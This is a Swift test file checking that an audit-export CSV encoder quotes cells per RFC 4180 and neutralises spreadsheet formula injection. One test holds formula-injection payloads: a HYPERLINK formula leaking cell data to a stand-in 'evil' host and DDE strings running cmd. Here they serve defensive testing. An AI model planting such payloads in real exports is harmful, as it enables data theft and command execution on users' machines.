import TandemProtocol
import Testing

@Suite("CSVTable: the audit export's CSV cannot run formulas in a spreadsheet (protocol/README.md § Export)")
struct CSVTableTests {
    @Test("ordinary cells are written as they are")
    func plainCells() {
        #expect(CSVTable.cell("HD-1042") == "HD-1042")
        #expect(CSVTable.cell("tandem-cli/0.1") == "tandem-cli/0.1")
        #expect(CSVTable.cell("a=b") == "a=b")
        #expect(CSVTable.cell("42") == "42")
        #expect(CSVTable.cell("") == "")
    }

    @Test("RFC 4180: commas, quotes and line breaks are quoted, quotes doubled")
    func quoting() {
        #expect(CSVTable.cell("a,b") == "\"a,b\"")
        #expect(CSVTable.cell("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVTable.cell("a\nb") == "\"a\nb\"")
        #expect(CSVTable.cell("a\r\nb") == "\"a\r\nb\"")
    }

    @Test("a cell starting with = + - @ TAB or CR gets a leading ' and is quoted")
    func formulaTriggers() {
        #expect(CSVTable.cell("=1+1") == "\"'=1+1\"")
        #expect(CSVTable.cell("+1") == "\"'+1\"")
        #expect(CSVTable.cell("-2+3") == "\"'-2+3\"")
        #expect(CSVTable.cell("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(CSVTable.cell("\t=1") == "\"'\t=1\"")
        #expect(CSVTable.cell("\r=1") == "\"'\r=1\"")
        #expect(CSVTable.cell("\r\n=1") == "\"'\r\n=1\"")
    }

    @Test("HYPERLINK and DDE payloads reach the spreadsheet as text")
    func payloads() {
        #expect(CSVTable.cell("=HYPERLINK(\"http://evil/?x=\"&A1,\"open\")") == "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"open\"\")\"")
        #expect(CSVTable.cell("=cmd|'/C calc'!A0") == "\"'=cmd|'/C calc'!A0\"")
        #expect(CSVTable.cell("@SUM(1+1)*cmd|'/C calc'!A0") == "\"'@SUM(1+1)*cmd|'/C calc'!A0\"")
    }

    @Test("a document is its rows joined by commas, each line ended by CRLF")
    func document() {
        #expect(CSVTable.encode([["id", "ticket"], ["s_1", "=1+1"], ["s_2", "a,b"]]) == "id,ticket\r\ns_1,\"'=1+1\"\r\ns_2,\"a,b\"\r\n")
    }
}
